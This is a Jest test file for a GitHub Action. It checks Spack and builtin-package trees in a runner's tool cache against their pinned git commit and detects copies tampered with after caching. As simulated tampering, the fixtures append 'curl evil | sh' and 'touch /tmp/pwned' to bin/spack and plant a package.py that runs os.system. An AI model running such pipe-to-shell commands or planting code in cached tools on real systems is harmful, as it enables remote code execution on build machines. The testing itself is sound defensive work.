/**
 * Provisioned trees checked against their pinned commit: the git object ids computed here against real git's, and a
 * tool-cache copy tampered with after it was cached (a self-hosted runner keeps its tool cache) caught before use,
 * cloned again, or refused offline naming the tree.
 */
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import { appendFileSync, chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { git, makeRepo, publish, tag, tempDir, type FileSpec } from '../helpers/git-server.js'
import { captureWorkflowLog, type WorkflowLog } from '../helpers/workflow-log.js'
import { provisionSpack } from '../../src/spack/provision.js'
import { differences, parseListing, treeIds, treeOfCommit } from '../../src/spack/tree-hash.js'
import { LISTING_FILE, PROVENANCE_FILE, verifyCopy } from '../../src/spack/tool-cache.js'

describe('git object ids', () => {
  test("a directory's tree id is git's, with modes, links, nested and git-ordered names; a commit names its tree", () => {
    const repo = makeRepo({
      'a.txt': 'a\n',
      'a/b.txt': 'nested\n',
      'a-b/c': 'dash\n',
      'bin/tool': { content: '#!/bin/sh\necho hi\n', mode: 0o755 },
      'lib/x/y/z.py': 'print(1)\n'
    })
    symlinkSync('a.txt', path.join(repo.dir, 'link'))
    git(['add', '-A'], repo.dir)
    git(['commit', '-q', '-m', 'link'], repo.dir)
    const commit = git(['rev-parse', 'HEAD'], repo.dir).trim()
    const tree = git(['rev-parse', 'HEAD^{tree}'], repo.dir).trim()
    const ids = treeIds(repo.dir, { ignore: relative => relative === '.git' })
    expect(ids.get('')).toBe(tree)
    expect(ids.get('lib/x')).toBe(git(['rev-parse', 'HEAD:lib/x'], repo.dir).trim())
    const object = execFileSync('git', ['cat-file', 'commit', 'HEAD'], { cwd: repo.dir, encoding: 'utf8' })
    expect(treeOfCommit(commit, object)).toBe(tree)
    expect(treeOfCommit(commit, object.replace('link', 'lunk'))).toBeUndefined()
    // a mode is part of the tree: the same bytes, no longer executable, are another tree
    chmodSync(path.join(repo.dir, 'bin', 'tool'), 0o644)
    expect(treeIds(repo.dir, { ignore: relative => relative === '.git' }).get('')).not.toBe(tree)
  })

  test('what differs from the listing recorded at the clone: changed, added and removed, the shallowest path', () => {
    const repo = makeRepo({ 'bin/spack': 'spack\n', 'lib/a.py': 'a\n', 'lib/b.py': 'b\n' })
    const listing = parseListing(git(['ls-tree', '-r', '-t', '--full-tree', 'HEAD'], repo.dir))
    const ignore = (relative: string): boolean => relative === '.git'
    expect(differences(repo.dir, listing, { ignore })).toEqual([])
    appendFileSync(path.join(repo.dir, 'bin', 'spack'), 'curl evil | sh\n')
    rmSync(path.join(repo.dir, 'lib', 'b.py'))
    mkdirSync(path.join(repo.dir, 'lib', 'extra'))
    writeFileSync(path.join(repo.dir, 'lib', 'extra', 'c.py'), 'c\n')
    expect(differences(repo.dir, listing, { ignore })).toEqual([
      'bin/spack changed',
      'lib/b.py removed',
      'lib/extra added'
    ])
  })
})

describe('byte code in a copy', () => {
  test('a __pycache__ the commit holds is compared like any file; one Python wrote later is not', () => {
    const repo = makeRepo({ 'lib/a.py': 'a\n', 'lib/__pycache__/a.cpython-311.pyc': 'committed\n' })
    const commit = git(['rev-parse', 'HEAD'], repo.dir)
    const object = execFileSync('git', ['cat-file', 'commit', 'HEAD'], { cwd: repo.dir, encoding: 'utf8' })
    writeFileSync(path.join(repo.dir, LISTING_FILE), git(['ls-tree', '-r', '-t', '--full-tree', 'HEAD'], repo.dir))
    writeFileSync(path.join(repo.dir, PROVENANCE_FILE), JSON.stringify({ commit, commitObject: object }))
    rmSync(path.join(repo.dir, '.git'), { recursive: true, force: true })
    expect(verifyCopy(repo.dir, commit)).toBeUndefined()
    mkdirSync(path.join(repo.dir, 'lib', 'sub', '__pycache__'), { recursive: true })
    writeFileSync(path.join(repo.dir, 'lib', 'sub', '__pycache__', 'b.pyc'), 'written by Python later')
    expect(verifyCopy(repo.dir, commit)).toBeUndefined()
    writeFileSync(path.join(repo.dir, 'lib', '__pycache__', 'a.cpython-311.pyc'), 'tampered\n')
    expect(verifyCopy(repo.dir, commit)).toBe(
      `does not match commit ${commit}, its files were changed after it was cached (lib/__pycache__/a.cpython-311.pyc changed)`
    )
  })
})

const FAKE_SPACK: FileSpec = {
  content: '#!/bin/sh\ncase "$1" in --version) echo "1.0.0"; exit 0;; esac\nexit 2\n',
  mode: 0o755
}
const FAST = { attempts: 2, initialDelayMs: 1, maxDelayMs: 1 }

describe('a provisioned tree in the tool cache', () => {
  const root = tempDir('tamper-sources')
  // As Spack's own repository: .bat files get CRLF on checkout unless the clone keeps files as committed.
  const spack = makeRepo({
    'bin/spack': FAKE_SPACK,
    'bin/spack.bat': '@echo off\npython spack %*\n',
    '.gitattributes': '*.bat text eol=crlf\n',
    'lib/spack/spack/__init__.py': ''
  })
  tag(spack.dir, 'v1.0.0', spack.commit, true)
  publish(spack.dir, root, 'spack')
  const packages = makeRepo({
    'repos/spack_repo/builtin/repo.yaml': 'repo:\n  namespace: builtin\n  api: v2.2\n',
    'repos/spack_repo/builtin/packages/zlib/package.py': 'class Zlib: pass\n'
  })
  tag(packages.dir, 'v2025.07.0', packages.commit)
  publish(packages.dir, root, 'spack-packages')
  const sources = {
    spack: `file://${path.join(root, 'spack.git')}`,
    packages: `file://${path.join(root, 'spack-packages.git')}`
  }
  const request = { version: 'v1.0.0', commit: spack.commit }
  const builtin = { tag: 'v2025.07.0', commit: packages.commit }
  const saved = { ...process.env }
  let log: WorkflowLog
  let runnerTemp: string

  beforeEach(() => {
    runnerTemp = tempDir('runner-temp')
    for (const [name, file] of [
      ['GITHUB_ENV', 'env'],
      ['GITHUB_PATH', 'path']
    ] as const) {
      process.env[name] = path.join(runnerTemp, file)
      writeFileSync(process.env[name] as string, '')
    }
    process.env.RUNNER_TOOL_CACHE = tempDir('tool-cache')
    log = captureWorkflowLog()
  })
  afterEach(() => {
    log.restore()
    for (const name of Object.keys(process.env)) if (!(name in saved)) delete process.env[name]
    Object.assign(process.env, saved)
  })

  async function provision(offline = false) {
    return provisionSpack(request, { runnerTemp, sources, retry: FAST, builtin, exportToJob: false, offline })
  }

  test('is verified against the pinned commit (its files as committed, no end-of-line conversion); byte code Python wrote into it is no part of the comparison', async () => {
    const first = await provision()
    expect(first.fromToolCache).toBe(false)
    expect(verifyCopy(first.root, spack.commit)).toBeUndefined()
    expect(JSON.parse(readFileSync(path.join(first.root, PROVENANCE_FILE), 'utf8')).commitObject).toMatch(/^tree /)
    expect(readFileSync(path.join(first.root, LISTING_FILE), 'utf8')).toContain('\tbin/spack')
    mkdirSync(path.join(first.root, 'lib', 'spack', 'spack', '__pycache__'))
    writeFileSync(path.join(first.root, 'lib', 'spack', 'spack', '__pycache__', '__init__.cpython-311.pyc'), 'x')
    const second = await provision(true)
    expect(second.fromToolCache).toBe(true)
    expect(second.builtin?.fromToolCache).toBe(true)
    expect(log.warnings()).toEqual([])
  })

  test('code added to the cached bin/spack: caught before Spack runs, and Spack cloned again', async () => {
    const first = await provision()
    appendFileSync(path.join(first.root, 'bin', 'spack'), 'touch /tmp/pwned\n')
    const again = await provision()
    expect(again.fromToolCache).toBe(false)
    expect(again.builtin?.fromToolCache).toBe(true)
    expect(readFileSync(path.join(again.root, 'bin', 'spack'), 'utf8')).not.toContain('pwned')
    expect(log.warnings()).toEqual([
      `Spack v1.0.0 in the runner's tool cache (${first.root}) does not match commit ${spack.commit}, its files were changed after it was cached (bin/spack changed); fetching it again`
    ])
  })

  test('a file added to the cached builtin repository: caught and cloned again; offline, refused naming the tree', async () => {
    const first = await provision()
    const planted = path.join(first.builtin?.path as string, 'packages', 'evil')
    mkdirSync(planted)
    writeFileSync(path.join(planted, 'package.py'), 'import os\nos.system("id")\n')
    await expect(provision(true)).rejects.toThrow(
      `offline: Spack builtin packages v2025.07.0 in the runner's tool cache (${path.dirname(path.dirname(path.dirname(first.builtin?.path as string)))}) does not match commit ${packages.commit}, its files were changed after it was cached (repos/spack_repo/builtin/packages/evil added), and it can't be cloned again without network`
    )
    const again = await provision()
    expect(again.builtin?.fromToolCache).toBe(false)
    expect(again.fromToolCache).toBe(true)
  })

  test('a copy cached without its commit object (by an earlier version of the action) is cloned again once', async () => {
    const first = await provision()
    const provenance = path.join(first.root, PROVENANCE_FILE)
    const { commitObject: _dropped, ...older } = JSON.parse(readFileSync(provenance, 'utf8')) as Record<string, unknown>
    writeFileSync(provenance, JSON.stringify(older))
    expect(verifyCopy(first.root, spack.commit)).toBe(
      'was cached without the commit object its files are checked against'
    )
    expect((await provision()).fromToolCache).toBe(false)
    expect((await provision()).fromToolCache).toBe(true)
  })
})
